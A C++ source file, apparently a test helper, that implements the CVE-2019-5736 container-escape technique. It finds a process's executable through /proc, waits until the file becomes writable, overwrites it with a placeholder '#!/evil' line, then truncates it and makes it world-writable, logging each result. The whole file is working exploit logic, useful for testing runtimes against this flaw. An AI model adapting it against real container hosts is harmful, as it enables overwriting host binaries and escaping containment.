// exe_attacker: run inside of a container, tries to overwrite the executable of another process
// there (CVE-2019-5736).
//
//   exe_attacker SIZE LOG
//
// Looks at every /proc/PID/exe until one opens that is SIZE bytes long: the victim. Holds it open
// by its descriptor, and from then on opens /proc/self/fd/N for writing again and again: "text file
// busy" turns to the file system's own answer when the last process that executes it has gone. Then
// it waits to be killed: as the first process of its pid namespace it would take the others with
// it. Every new answer is a line of LOG: "saw PID errno", "opened PID", "write ERRNO" (0: the file
// was written), "truncate ERRNO", "chmod ERRNO", "done".
#include <dirent.h>
#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cctype>
#include <cerrno>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <set>
#include <string>

namespace {

std::set<std::string> told;

void tell(FILE* log, const std::string& what, int error) {
  std::string line = what + " " + (error == 0 ? "0" : ::strerrorname_np(error));
  if (!told.insert(line).second) return;
  std::fprintf(log, "%s\n", line.c_str());
  std::fflush(log);
}

struct Victim {
  int exe = -1;
  std::string process;  // its directory in /proc
};

// Any process whose executable has the victim's size.
Victim find_victim(FILE* log, off_t size) {
  Victim found;
  DIR* processes = ::opendir("/proc");
  if (processes == nullptr) return found;
  while (dirent* entry = ::readdir(processes)) {
    if (std::isdigit(entry->d_name[0]) == 0) continue;
    std::string path = std::string("/proc/") + entry->d_name + "/exe";
    int fd = ::open(path.c_str(), O_RDONLY | O_CLOEXEC);
    if (fd < 0) {
      // ENOENT: it went meanwhile.
      if (errno != ENOENT) tell(log, std::string("saw ") + entry->d_name, errno);
      continue;
    }
    struct stat there {};
    if (::fstat(fd, &there) == 0 && there.st_size == size) {
      tell(log, std::string("opened ") + entry->d_name, 0);
      found = {fd, std::string("/proc/") + entry->d_name};
      break;
    }
    ::close(fd);
  }
  ::closedir(processes);
  return found;
}

int write_over(const std::string& path) {
  int fd = ::open(path.c_str(), O_WRONLY | O_CLOEXEC);
  if (fd < 0) return errno;
  static const char kEvil[] = "#!/evil\n";
  int error = ::write(fd, kEvil, sizeof(kEvil) - 1) < 0 ? errno : 0;
  ::close(fd);
  return error;
}

}  // namespace

int main(int argc, char** argv) {
  if (argc != 3) return 2;
  FILE* log = std::fopen(argv[2], "we");
  if (log == nullptr) return 2;
  tell(log, "began", 0);
  Victim victim;
  while ((victim = find_victim(log, std::atoll(argv[1]))).exe < 0) ::usleep(100);
  std::string path = "/proc/self/fd/" + std::to_string(victim.exe);
  int error = 0;
  do {
    error = write_over(path);
    tell(log, "write", error);
    ::usleep(100);
  } while (error == ETXTBSY || ::access(victim.process.c_str(), F_OK) == 0);
  tell(log, "truncate", ::truncate(path.c_str(), 0) == 0 ? 0 : errno);
  tell(log, "chmod", ::chmod(path.c_str(), 0777) == 0 ? 0 : errno);
  tell(log, "done", 0);
  while (true) ::pause();
}
